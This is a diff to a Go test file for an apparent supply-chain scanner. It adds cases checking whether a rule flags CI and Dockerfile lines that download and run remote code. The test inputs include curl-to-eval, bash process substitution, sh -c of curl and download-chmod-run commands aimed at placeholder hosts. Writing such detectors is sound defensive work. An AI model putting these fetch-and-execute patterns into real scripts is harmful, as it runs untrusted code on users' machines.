@@ -37,6 +37,13 @@ func TestSpecifics(t *testing.T) {
 		{"download made executable, installed, not run", "docker/Dockerfile", "RUN set -xe \\\n        && curl -A \"Docker\" -o /tmp/blackfire/blackfire -D - -L -s https://packages.invalid/blackfire-linux_amd64 \\\n        && mv /tmp/blackfire/blackfire /usr/bin/blackfire \\\n        && chmod +x /usr/bin/blackfire\n", "GB0601", glassbox.SeverityLow},
 		{"download made executable and run", "install.sh", "curl -sSL -o /tmp/tool https://x.invalid/tool\nchmod +x /tmp/tool\n/tmp/tool --install\n", "GB0601", glassbox.SeverityHigh},
 		{"download made executable and run after &&", "Dockerfile", "RUN curl -o /usr/local/bin/tool https://x.invalid/tool && chmod 755 /usr/local/bin/tool && tool setup\n", "GB0601", glassbox.SeverityHigh},
+		// testify 1.12.1's .ci.ghactions.sh: eval of a comparison's result.
+		{"eval of a jq comparison of a download", "ci.sh", "eval \"$( curl -s https://x.invalid/commits/main | jq -r '.sha == \"'\"$hash\"'\"' )\"\n", "", ""},
+		{"eval of a count of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/list | grep -c ok)\"\n", "", ""},
+		{"eval of a jq field of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/cfg | jq -r '.script')\"\n", "GB0601", glassbox.SeverityHigh},
+		{"eval of a jq conditional of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/cfg | jq -r 'if .a == 1 then .script else \"\" end')\"\n", "GB0601", glassbox.SeverityHigh},
+		{"eval of a grep of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/cfg | grep -v '^#')\"\n", "GB0601", glassbox.SeverityHigh},
+		{"bash of a process substitution ending in a count", "ci.sh", "bash <(curl -s https://x.invalid/i.sh | wc -l)\n", "", ""},
 		{"sh -c of curl", "Dockerfile", "RUN sh -c \"$(curl -fsSL https://x.invalid/i.sh)\"\n", "GB0601", glassbox.SeverityHigh},
 		{"postinstall runs node", "package.json", `{"scripts":{"postinstall":"node scripts/postinstall.js"}}`, "GB0602", glassbox.SeverityMedium},
 		{"postinstall downloads", "package.json", `{"scripts":{"postinstall":"node -e \"require('https').get('https://x.invalid')\""}}`, "GB0602", glassbox.SeverityHigh},
